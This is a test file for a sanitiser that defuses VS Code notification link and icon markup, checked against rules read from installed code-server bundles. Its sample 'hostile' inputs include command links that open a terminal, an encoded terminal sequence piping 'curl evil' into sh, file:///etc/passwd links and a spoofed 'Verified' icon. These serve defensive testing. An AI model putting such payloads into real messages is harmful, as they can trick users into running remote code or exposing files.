/**
 * inertMarkup (src/core/visibleText.ts) against VS Code's own parse rules, read from the workbench bundle of
 * each installed code-server (.tools/code-server and .tools/code-server-min): the link rule is
 * vs/base/common/linkedText.ts's LINK_REGEX (parseLinkedText), which a notification and an input box's prompt
 * use; the icon rule is renderLabelWithIcons (vs/base/browser/ui/iconLabel/iconLabels.ts) built from
 * ThemeIcon.iconNameExpression and iconModifierExpression. What a notification does to its message first (cut
 * at 1000 characters, newlines to spaces, trim) is NotificationViewItem.parseNotificationMessage in
 * vs/workbench/common/notifications.ts, repeated here.
 */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { test } from 'node:test';
import { inertMarkup } from '../../src/core/visibleText';
import { CODE_SERVERS } from '../vscode/codeServers';

/** linkedText.ts as of VS Code 1.34–1.107: a changed rule in a new VS Code fails this test, to be looked at. */
const CITED_LINK_RULE = String.raw`\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)`;

interface Rules {
  where: string;
  link: RegExp;
  icon: RegExp;
}

function rulesOf(install: string): Rules {
  const bundle = path.join(install, 'node_modules/code-server/lib/vscode/out/vs/code/browser/workbench/workbench.js');
  assert.ok(fs.existsSync(bundle), `${bundle} is missing: run scripts/setup.sh`);
  const text = fs.readFileSync(bundle, 'utf8');
  const at = text.indexOf(String.raw`(?:https?:\/\/|command:|file:)`);
  assert.ok(at > 0, `no link rule in ${bundle}`);
  const start = text.lastIndexOf('=/', at) + 2;
  const end = text.indexOf('/gi;', at);
  const name = /iconNameExpression="([^"]+)"/.exec(text)?.[1];
  const modifier = /iconModifierExpression="([^"]+)"/.exec(text)?.[1];
  assert.ok(name && modifier, `no icon rule in ${bundle}`);
  return { where: bundle, link: new RegExp(text.slice(start, end), 'gi'), icon: new RegExp(String.raw`(\\)?\$\((${name}(?:${modifier})?)\)`, 'g') };
}

const RULES = Object.values(CODE_SERVERS).map(rulesOf);

/** What the notification renders as links and icons (unescaped ones) in `message`. */
function rendered(rules: Rules, message: string): { links: string[]; icons: string[] } {
  let m = message.length > 1000 ? `${message.slice(0, 1000)}...` : message;
  m = m.replace(/(\r\n|\n|\r)/gm, ' ').trim();
  const links = [...m.matchAll(rules.link)].map((x) => x[2]!);
  const icons = [...m.matchAll(rules.icon)].filter((x) => !x[1]).map((x) => x[2]!);
  return { links, icons };
}

/** Each turns into a link (or an icon) in a notification as it is. */
const HOSTILE = [
  '[x](command:workbench.action.terminal.new)',
  'Done. [Open the report](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  '[[x](command:workbench.action.terminal.new)]',
  '[a [b](command:workbench.action.terminal.new) c]',
  '[a [b]](command:x)(command:y)[c](command:z)',
  '[x](COMMAND:workbench.action.terminal.new)',
  '[x](file:///etc/passwd "title")',
  "[x](file:///etc/passwd 'title')",
  '[x](https://evil.example/ "https://github.com")',
  '\\[x\\](command:workbench.action.terminal.new)',
  '[x\\](command:workbench.action.terminal.new)',
  '[x\n](command:workbench.action.terminal.new)',
  '[x\r\n](command:a)[y](https://evil.example)',
  ']]]]((((command:a)[x](command:b)',
  `${'p'.repeat(980)}[x](command:a)`,
  '$(shield) Verified by Atrium',
  '$(sync~spin) installing',
];

/** Each is no link already (a label holds no `]`, a target starts at once); inertMarkup must keep them so. */
const ALREADY_PLAIN = ['[x]( command:workbench.action.terminal.new)', '[[x]](command:workbench.action.terminal.new)', '[a [b] c](command:x)', '\\$(gear)'];

test('the hostile inputs are links or icons as they are (the rules read from VS Code are live)', () => {
  for (const rules of RULES) {
    assert.equal(rules.link.source, CITED_LINK_RULE, `${rules.where}: the link rule changed`);
    for (const h of HOSTILE) {
      const r = rendered(rules, h);
      assert.ok(r.links.length + r.icons.length > 0, `${JSON.stringify(h)} renders nothing in ${rules.where}`);
    }
    for (const plain of ALREADY_PLAIN) assert.deepEqual(rendered(rules, plain), { links: [], icons: [] }, `${JSON.stringify(plain)} in ${rules.where}`);
  }
});

test('inertMarkup leaves no link and no icon in them, and reads the same', () => {
  for (const rules of RULES) {
    for (const h of [...HOSTILE, ...ALREADY_PLAIN]) {
      const safe = inertMarkup(h);
      assert.deepEqual(rendered(rules, safe), { links: [], icons: [] }, `${JSON.stringify(h)} → ${JSON.stringify(safe)}`);
      assert.equal(safe.replace(/([\]$]) \(/g, '$1('), h.replace(/([\]$]) \(/g, '$1('), 'only spaces are added, before a parenthesis');
      assert.equal(inertMarkup(safe), safe, 'applying it twice changes nothing');
    }
  }
  assert.equal(inertMarkup('[x](command:workbench.action.terminal.new)'), '[x] (command:workbench.action.terminal.new)');
  assert.equal(inertMarkup('$(shield) Verified'), '$ (shield) Verified');
  assert.equal(inertMarkup('no markup: a (b) [c] $5 https://example.com'), 'no markup: a (b) [c] $5 https://example.com');
});

test('inertMarkup over random strings of link syntax: no link or icon survives the notification', () => {
  const pieces = ['[', ']', '(', ')', '$', ' ', '\n', '\r', '"', "'", 'x', '\\', 'command:a', 'file:/b', 'https://c', 'gear', '~spin'];
  let seed = 25; // xorshift32: the same strings every run
  const next = () => {
    seed ^= seed << 13;
    seed ^= seed >>> 17;
    seed ^= seed << 5;
    return seed >>> 0;
  };
  for (let i = 0; i < 20_000; i++) {
    const text = Array.from({ length: 1 + (next() % 24) }, () => pieces[next() % pieces.length]).join('');
    for (const rules of RULES) assert.deepEqual(rendered(rules, inertMarkup(text)), { links: [], icons: [] }, JSON.stringify(text));
  }
});
